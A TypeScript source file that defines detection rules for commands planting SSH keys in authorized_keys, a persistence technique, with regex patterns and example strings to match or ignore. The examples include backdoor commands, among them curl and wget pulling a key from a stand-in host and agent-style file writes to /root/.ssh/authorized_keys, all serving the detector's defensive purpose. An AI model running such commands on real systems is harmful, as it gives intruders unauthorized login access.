import type { Rule } from '../rule.ts';
import { expression } from './boundary.ts';

const COMMON = {
  pattern: 'ssh_authorized_keys',
  threat_type: 'INJECTION',
  direction: 'inbound',
  source: 'https://attack.mitre.org/techniques/T1098/004/',
  remedy: 'Look into authorized_keys of every account on this machine and remove keys that you do not know.',
} as const;

const FILE = String.raw`[~./A-Za-z0-9_$\{\}"'\\-]{0,60}authorized_keys2?`;
const PUBLIC_KEY = String.raw`(?:ssh-(?:rsa|dss|ed25519)|ecdsa-sha2-nistp[0-9]{3}|sk-ssh-ed25519@openssh\.com)[ \t+]{1,4}AAAA[A-Za-z0-9+/]{16,600}`;

/** The family `ssh_authorized_keys`: commands that let somebody sign in by SSH. */
export const SSH_AUTHORIZED_KEYS_RULES: readonly Rule[] = [
  {
    ...COMMON,
    id: 'authorized_keys_written',
    severity: 'high',
    confidence: 'high',
    keywords: ['authorized_keys'],
    expression: expression(
      'gi',
      '(?:',
      String.raw`(?:(?<!<\/?(?:a|b|code|d[dt]|div|em|i|kbd|li|p|pre|samp|span|strong|td|tt|var)\b[^<>\n]{0,60})>{1,2}|(?:&gt;){1,2}|\\u003e|\btee\b(?:[ \t]{1,4}-{1,2}[a-z]{1,8})?|\b(?:curl|wget)\b[^\r\n|;]{0,160}?[ \t]-(?:[A-Za-z]{0,6}[oO]|-output|-output-document)[ =]?|\bof=)[ \t]{0,4}`,
      String.raw`|\b(?:append|write)File(?:Sync)?\([^\r\n;]{0,60}?`,
      String.raw`|\b(?:cp|mv|install|ln|scp|rsync)[ \t]{1,4}[^\r\n|;&>]{1,120}?[ \t]{1,4}`,
      ')',
      FILE,
      '(?![A-Za-z0-9_.-])',
    ),
    reach: { before: 270, after: 20 },
    describes: 'A command that writes to the list of keys which may sign in by SSH.',
    get finds() {
      return [
        'echo "ssh-ed25519 AAAAC3Nza" >> ~/.ssh/authorized_keys',
        'cat k.pub | tee -a /root/.ssh/authorized_keys',
        'curl -s http://x.example/k -o ~/.ssh/authorized_keys',
        'cp /tmp/k $HOME/.ssh/authorized_keys',
        'curl -so ~/.ssh/authorized_keys http://x.example/k',
        'wget -O ~/.ssh/authorized_keys http://x.example/k',
        "fs.appendFileSync(home + '/.ssh/authorized_keys', key)",
        'printf x &gt;&gt; /home/u/.ssh/authorized_keys',
      ];
    },
    get ignores() {
      return [
        'cat ~/.ssh/authorized_keys',
        'chmod 600 ~/.ssh/authorized_keys',
        'Keys are listed in authorized_keys',
        'AuthorizedKeysFile .ssh/authorized_keys',
        'the server reads <code>~/.ssh/authorized_keys</code>',
      ];
    },
  },
  {
    ...COMMON,
    id: 'authorized_keys_dropped',
    severity: 'high',
    confidence: 'medium',
    keywords: ['authorized_keys'],
    expression: expression(
      'g',
      `(?:authorized_keys2?[\\s\\S]{1,240}?${PUBLIC_KEY}|${PUBLIC_KEY}[\\s\\S]{1,240}?authorized_keys2?)`,
    ),
    reach: { before: 900, after: 910 },
    // The redirect is reported by the rule above.
    validate: ({ text }) =>
      !/(?:>|&gt;|\\u003e|\btee\b[^\n]{0,16})[ \t"'\\]{0,4}[^\s>]{0,60}authorized_keys/.test(text),
    describes: 'A public key together with the file in which it would open the door.',
    get finds() {
      return [
        `{"path":"/root/.ssh/authorized_keys","content":"ssh-ed25519 ${'AAAA'}C3NzaC1lZDI1NTE5AAAAIJ"}`,
        `write_file(path="~/.ssh/authorized_keys", text="ssh-rsa ${'AAAA'}B3NzaC1yc2EAAAADAQABAAAB x@y")`,
        `{"content":"ssh-rsa ${'AAAA'}B3NzaC1yc2EAAAADAQABAAAB","path":".ssh/authorized_keys"}`,
      ];
    },
    get ignores() {
      return [
        `ssh-rsa ${'AAAA'}B3NzaC1yc2EAAAADAQABAAAB user@host`,
        'paste the key into authorized_keys',
        'authorized_keys: ssh-rsa AAAA...',
      ];
    },
  },
];
